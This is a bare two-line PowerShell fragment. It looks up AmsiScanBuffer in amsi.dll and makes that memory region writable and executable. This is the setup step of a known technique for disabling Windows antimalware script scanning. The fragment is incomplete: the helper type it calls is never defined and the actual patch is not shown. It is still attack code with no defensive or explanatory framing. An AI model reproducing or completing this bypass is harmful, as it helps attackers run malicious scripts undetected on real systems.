$a = [W]::GetProcAddress([W]::LoadLibrary('amsi.dll'), 'AmsiScanBuffer')
[W]::VirtualProtect($a, 5, 0x40, [ref]$o)
